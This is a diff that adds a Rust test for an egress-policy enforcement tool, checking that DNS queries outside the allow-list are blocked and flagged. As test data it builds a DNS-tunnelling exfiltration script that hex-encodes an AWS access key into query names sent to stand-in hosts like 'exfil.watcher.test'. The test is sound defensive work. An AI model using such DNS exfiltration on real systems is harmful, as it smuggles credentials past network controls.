@@ -118,3 +118,56 @@ fn audit_override_lets_everything_through_with_the_commands_code() {
     assert_eq!(bad.connections(), 1);
     assert!(String::from_utf8_lossy(&out.stderr).contains("egress-denied"));
 }
+
+#[test]
+fn dns_queries_for_names_outside_the_policy_never_leave_the_machine() {
+    if !root_or_skip() {
+        return;
+    }
+    let dns_ip = "127.53.0.41";
+    let dns = DnsServer::start(
+        dns_ip.parse().unwrap(),
+        vec![
+            ("registry.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()]),
+            ("a.cdn.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()]),
+        ],
+    )
+    .unwrap();
+    let policy = format!(
+        "version: 1\npipeline: t\nmode: enforce\negress:\n  allow:\n    - host: registry.watcher.test\n    - host: \"*.cdn.watcher.test\"\ndns:\n  resolvers: [{dns_ip}]\n"
+    );
+    let secret = "AKIAIOSFODNN7EXAMPLE";
+    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
+    let leak = format!("{hex}.exfil.watcher.test");
+    let p = netprobe_bin().display().to_string();
+    let script = format!(
+        "{p} dns-sendto {dns_ip} REGISTRY.watcher.test A dns-sendto {dns_ip} a.cdn.watcher.test A \
+         dns-sendto {dns_ip} {leak} A dns-tcp {dns_ip} {leak} TXT dns-sendmmsg {dns_ip} cdn.watcher.test,evil.watcher.test A \
+         dns-connected {dns_ip} registry.watcher.test.evil.test A"
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let pf = dir.path().join("p.yaml");
+    std::fs::write(&pf, policy).unwrap();
+    let log = dir.path().join("e.jsonl");
+    let out = Command::new(watcher_bin())
+        .args(["run", "--quiet", "--policy"])
+        .arg(&pf)
+        .arg("--log")
+        .arg(&log)
+        .args(["--", "sh", "-c", &script])
+        .env("AWS_ACCESS_KEY_ID", secret)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(77), "{err}");
+    let got: Vec<String> = dns.queries().iter().map(|q| q.name.clone()).collect();
+    // Exactly the allowed names reached the resolver (case-insensitively, wildcard with a label).
+    assert_eq!(got, vec!["registry.watcher.test".to_string(), "a.cdn.watcher.test".to_string()], "{err}");
+    let events = read_jsonl(&log);
+    let sec = alert(&events, "secret-exfil");
+    assert_eq!(sec["action"], "deny");
+    assert!(sec["message"].as_str().unwrap().contains("AWS_ACCESS_KEY_ID"));
+    assert_eq!(alert(&events, "dns-denied")["action"], "deny");
+    assert!(!std::fs::read_to_string(&log).unwrap().contains(secret));
+}
